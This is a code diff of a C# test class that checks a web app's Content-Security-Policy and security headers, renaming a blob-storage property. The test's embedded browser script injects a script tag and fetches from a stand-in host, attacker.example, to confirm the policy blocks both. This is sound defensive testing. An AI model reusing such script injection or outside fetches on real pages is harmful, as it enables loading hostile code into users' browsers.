@@ -27,7 +27,7 @@ public sealed class PagePolicyTests(AzuriteServer azurite) : IDisposable
         var (headers, policy) = await ReadAsync(app, "/home?path=x");
 
         Assert.Equal(["'self'", "'unsafe-eval'", "blob:", HashOf(Inline), "https://stats.example", HashOf("window.site = 1")], policy["script-src"]);
-        Assert.Contains(app.Account.BlobAddress.GetLeftPart(UriPartial.Authority), policy["connect-src"]);
+        Assert.Contains(app.Account.BlobEndpoint.GetLeftPart(UriPartial.Authority), policy["connect-src"]);
         Assert.Equal(("'none'", "'none'", "'self'"), (policy["object-src"].Single(), policy["base-uri"].Single(), policy["frame-ancestors"].Single()));
         Assert.Equal(("nosniff", "SAMEORIGIN", "strict-origin-when-cross-origin"), (headers["X-Content-Type-Options"], headers["X-Frame-Options"], headers["Referrer-Policy"]));
     }
@@ -109,7 +109,7 @@ public sealed class PagePolicyTests(AzuriteServer azurite) : IDisposable
               stranger.src = 'https://attacker.example/x.js';
               document.body.append(stranger);
               await fetch('https://attacker.example/').catch(() => 0);
-              await fetch('{{app.Account.BlobAddress}}').catch(() => 0);
+              await fetch('{{app.Account.BlobEndpoint}}').catch(() => 0);
               while (refused.length < 4) await new Promise(r => setTimeout(r, 20));
               return [window.ran, window.hacked ?? 'safe', ...refused.sort()].join(' ');
             })()
